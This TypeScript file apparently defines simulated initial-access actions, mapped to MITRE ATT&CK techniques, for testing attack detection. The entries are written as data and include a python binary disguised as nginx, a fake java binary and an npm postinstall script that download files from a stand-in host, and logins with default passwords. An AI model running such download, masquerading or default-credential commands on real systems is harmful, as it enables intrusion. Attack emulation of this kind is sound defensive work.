import type { Action } from '../action.ts'
import { webServer } from '../loopback-server.ts'
import { standIn } from './stand-in.ts'

export const initialAccess: readonly Action[] = [
  {
    id: 'blind-public-service',
    title: 'Service on the network starts a shell for a request',
    technique: 'T1190',
    needs: ['python3', 'curl'],
    before: 'cp "$(readlink -f "$(command -v python3)")" /usr/sbin/nginx',
    run: `/usr/sbin/nginx -c '
import subprocess
print(subprocess.run("id; uname -a", shell=True, capture_output=True, text=True).stdout)'`,
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'blind-java-service',
    title: 'Application server runs whoami and a download',
    technique: 'T1190',
    needs: ['curl'],
    before: webServer(8080, 'stage\n'),
    program: {
      language: 'c',
      text: '#include <stdlib.h>\nint main() { return system("whoami; curl -s http://198.51.100.7:8080/x -o /tmp/x; chmod +x /tmp/x"); }',
    },
    run: 'mkdir -p /opt/jdk/bin; cp $PROGRAM /opt/jdk/bin/java; /opt/jdk/bin/java -jar app.jar',
    effect: 'test -x /tmp/x',
  },
  {
    id: 'blind-supply-chain',
    title: 'Script of a package starts a download',
    technique: 'T1195.002',
    needs: ['npm', 'node', 'curl'],
    before: webServer(8080, 'stage\n'),
    run: `mkdir /tmp/pkg; cd /tmp/pkg; echo '{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl -s http://198.51.100.7:8080/s -o /tmp/s"}}' > package.json; npm run postinstall --silent`,
    effect: 'test -s /tmp/s',
  },
  {
    id: 'blind-image-implanted',
    title: 'Image changed and pushed',
    technique: 'T1525',
    before: standIn('docker'),
    run: 'docker commit app registry.local/app:latest; docker push registry.local/app:latest',
  },
  {
    id: 'blind-default-account',
    title: 'Default account used',
    technique: 'T1078.001',
    before: standIn('sshpass', 'mysql'),
    run: 'sshpass -p raspberry ssh pi@10.0.0.5; mysql -u root -h 10.0.0.5 -proot -e "select 1"',
  },
  {
    id: 'blind-usb-program',
    title: 'Program started from removable media',
    technique: 'T1091',
    run: 'mkdir -p /media/ann/USB; cp /bin/id /media/ann/USB/setup; /media/ann/USB/setup',
    effect: 'grep -q uid= $OUT',
  },
]
